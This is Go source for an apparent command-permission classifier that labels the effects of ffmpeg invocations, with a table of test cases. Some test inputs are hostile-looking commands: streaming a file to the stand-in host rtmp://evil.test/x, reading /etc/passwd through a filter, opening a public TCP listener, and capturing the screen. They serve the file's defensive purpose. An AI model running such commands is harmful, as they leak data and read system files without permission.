package commands

import (
	"slices"
	"strings"

	"automode"
)

var ffmpeg = Program{
	Name: "ffmpeg", Rare: true, Follows: "*", Summary: "converts pictures, films and sounds", Manual: "ffmpeg(1), FFmpeg 7",
	Row: Row{
		Style: Single,
		Help:  "-h -? -help -version -L -buildconf -formats -demuxers -muxers -devices -codecs -decoders -encoders -bsfs -protocols -filters -pix_fmts -sample_fmts -layouts -dispositions -colors -hwaccels",
		Args:  []Arg{{Role: Data}},
		Flags: []Flag{
			{Names: "-loglevel= -v= -hide_banner -cpuflags= -cpucount= -max_alloc= -f= -y -n -stream_loop= -recast_media -c= -c:v= -c:a= -c:s= -codec= -codec:v= -codec:a= -t= -to= -fs= -ss= -sseof= -isync= -itsoffset= -itsscale= -timestamp= -metadata= -disposition= -target= -dn -dframes= -frames= -frames:v= -q= -q:v= -q:a= -qscale= -qscale:v= -filter_threads= -stats -nostats -stats_period= -stdin -nostdin -debug_ts -vframes= -r= -fpsmax= -s= -aspect= -vn -vcodec= -pass= -autorotate -noautorotate -autoscale -pix_fmt= -sws_flags= -psnr -top= -force_key_frames= -copyinkf -hwaccel= -hwaccel_device= -aframes= -ar= -aq= -ac= -an -acodec= -sample_fmt= -sn -scodec= -map= -map_metadata= -map_chapters= -benchmark -timelimit= -re -readrate= -vsync= -fps_mode= -copyts -start_at_zero -bitexact -shortest -muxdelay= -muxpreload= -bsf= -bsf:v= -bsf:a= -tag= -tag:v= -timecode= -filter_complex_threads= -accurate_seek -seek_timestamp -thread_queue_size= -abort_on= -max_error_rate= -xerror -max_muxing_queue_size= -b= -b:v= -b:a= -maxrate= -bufsize= -crf= -preset= -tune= -profile:v= -level= -g= -keyint_min= -movflags= -threads= -framerate= -pattern_type= -safe= -loop= -compression_level= -quality= -lossless= -strict= -start_number= -update= -analyzeduration= -probesize=", Value: Data},
			{Names: "-vf= -af= -filter= -filter:v= -filter:a= -filter_complex= -lavfi=", Value: Data},
			{Names: "-i=", Value: Data},
			{Names: "-attach=", Value: Reads},
			{Names: "-passlogfile= -vstats_file= -sdp_file=", Value: Writes, Why: "writes it to a file"},
			{Names: "-dump_attachment= -progress= -filter_script= -filter_complex_script=", Value: Unread},
		},
		Refine: ffmpegFiles,
	},
}

var ffmpegCases = []Case{
	{`ffmpeg -y -i a.mov -c:v libx264 -crf 23 b.mp4`, `Read a.mov; Write b.mp4`},
	{`ffmpeg -f x11grab -i :0 b.mp4`, `Control the screen; Read :0; Write b.mp4`},
	{`ffmpeg -i a.mov -vf scale=640:-1 out/f%03d.png`, `Read a.mov; Write out/f….png`},
	{`ffmpeg -i a.mov -vf "movie=/etc/passwd" b.mp4`, `Read a.mov; Write b.mp4; Unknown a filter may read or write files`},
	{`ffmpeg -i https://a/b.m3u8 b.mp4`, `Fetch https://a/b.m3u8; Write b.mp4`},
	{`ffmpeg -i a.mov 'tcp://0.0.0.0:1?listen'`, `Read a.mov; Expose tcp://0.0.0.0:1?listen`}, {`ffmpeg -i a.mov -f mpegts tcp://localhost:1`, `Read a.mov; Send tcp://localhost:1`},
	{`ffmpeg -i a.mov -f flv rtmp://evil.test/x`, `Read a.mov; Send rtmp://evil.test/x`},
	{`ffmpeg -attach f -i a b.mkv`, `Read f; Read a; Write b.mkv`},
	{`ffmpeg -i a -passlogfile p b.mp4`, `Write p; Read a; Write b.mp4`},
	{`ffmpeg -i a -f tee 'x|y'`, `Read a; Unknown an output of this form names others`},
	{`ffmpeg -i a -progress url b.mp4`, `Unknown nobody read what the value of -progress means; Read a; Write b.mp4`},
}

// ffmpegFiles: inputs follow -i, and every positional is an output.
func ffmpegFiles(m *Match) {
	m.Follows = m.listsFiles()
	for _, h := range m.Hits() {
		if h.Name == "-f" && named("x11grab gdigrab kmsgrab avfoundation dshow alsa pulse jack v4l2 video4linux2 fbdev openal sndio iec61883 decklink", h.Value.Text) {
			m.Add(Fact{Kind: automode.Control, Target: "the screen", Why: "watches what the person works with"})
		}
		if h.Name == "-i" && h.Has {
			m.medium(h.Value)
		}
	}
	tee := slices.ContainsFunc(m.hits, func(h Hit) bool { return h.Name == "-f" && (h.Value.Is("tee") || !h.Value.Exact()) })
	for _, w := range m.Args {
		address, isURL := addressOf(w)
		switch {
		case tee:
			m.Unknown("an output of this form names others", w)
		case w.Is("-") || w.Is("pipe:1"):
		case isURL && (strings.Contains(w.Text, "0.0.0.0") || strings.Contains(w.Text, "[::]") || strings.Contains(w.Text, "listen")):
			m.Add(Fact{Kind: automode.Expose, Word: w, Why: "lets other hosts take the result"})
		case isURL && address:
			m.Add(Fact{Role: Sends, Word: w, Kind: automode.Send, Why: "sends the result there"})
		case isURL:
			m.Unknown("nobody read what such an output names", w)
		case strings.IndexByte(w.Text, '%') >= 0:
			if row, ok := numberedRow(w); ok {
				m.addRole(Writes, &row, "writes a row of files")
				continue
			}
			folder := w
			folder.Text = "."
			if i := strings.LastIndexByte(w.Text, '/'); i >= 0 {
				folder.Text = w.Text[:max(i, 1)]
			}
			m.Add(Fact{Role: WritesTree, Word: folder, Kind: automode.Write, Extent: automode.Tree, Why: "writes a row of files"})
		default:
			m.Add(Fact{Role: Writes, Word: w, Kind: automode.Write, Why: "writes the result to a file"})
		}
	}
	for _, h := range m.Hits() {
		if h.Value.Is("lavfi") && !strings.Contains(lineOf(m.Words).Text, "duration=") && !m.limited() {
			m.fillsDisk("makes pictures or sound without end")
		}
		if h.Has && flagNamed(h.Flag, "-vf") && !plainFilters(h.Value) {
			m.Unknown("a filter may read or write files", h.Value)
		}
	}
}

// numberedRow is the name of any of the files that one with a place for a number
// stands for: "out/f%03d.png".
func numberedRow(w Word) (row Word, ok bool) {
	i := strings.IndexByte(w.Text, '%')
	rest := strings.TrimLeft(w.Text[i+1:], "0123456789")
	if !w.Exact() || rest == "" || rest[0] != 'd' || strings.ContainsAny(rest, "%/") {
		return w, false
	}
	row = w
	row.Text, row.Suffix, row.Known, row.Digits = w.Text[:i], rest[1:], automode.Bounded, true
	return row, true
}

// limited reports whether an option says how much is written at most.
func (m *Match) limited() bool {
	for i := range m.Words {
		if w := &m.Words[i]; strings.HasPrefix(w.Text, "-frames") || strings.HasPrefix(w.Text, "-shortest") || w.Is("-t") || w.Is("-to") || w.Is("-fs") || w.Is("-vframes") {
			return true
		}
	}
	return false
}

// medium adds that an input is read or fetched.
func (m *Match) medium(w Word) {
	switch address, isURL := addressOf(w); {
	case w.Is("-") || w.Is("pipe:0"):
	case isURL && address:
		m.Add(Fact{Role: Fetches, Word: w, Kind: automode.Fetch, Why: "takes its input from there"})
	case isURL:
		m.Unknown("nobody read what such an input names", w)
	default:
		m.Add(Fact{Role: Reads, Word: w, Kind: automode.Read})
	}
}

// addressOf reports whether the word begins with a protocol, and whether that
// one leads to a host.
func addressOf(w Word) (host, protocol bool) {
	name, rest, ok := strings.Cut(w.Text, ":")
	if !ok || strings.IndexByte(name, '/') >= 0 || name == "" {
		return false, false
	}
	return strings.HasPrefix(rest, "//") && name != "file", true
}

// plainFilters reports whether a chain consists of filters that take no file.
func plainFilters(w Word) bool {
	if !w.Exact() || strings.ContainsAny(w.Text, "[]\\'") {
		return false
	}
	for filter := range strings.FieldsFuncSeq(w.Text, func(r rune) bool { return r == ',' || r == ';' }) {
		name, _, _ := strings.Cut(filter, "=")
		switch name {
		case "scale", "fps", "crop", "pad", "format", "setsar", "setdar", "transpose", "hflip", "vflip", "rotate", "trim", "setpts",
			"palettegen", "paletteuse", "split", "select", "thumbnail", "tile", "fade", "eq", "hue", "yadif", "null",
			"atrim", "asetpts", "volume", "loudnorm", "afade", "aresample", "atempo", "anull", "highpass", "lowpass", "silenceremove":
		default:
			return false
		}
	}
	return true
}

// listsFiles reports whether an input is a list of others.
func (m *Match) listsFiles() bool {
	for i := range m.hits {
		if h := &m.hits[i]; h.Name == "-f" && h.Value.Is("concat") {
			return true
		}
	}
	return false
}
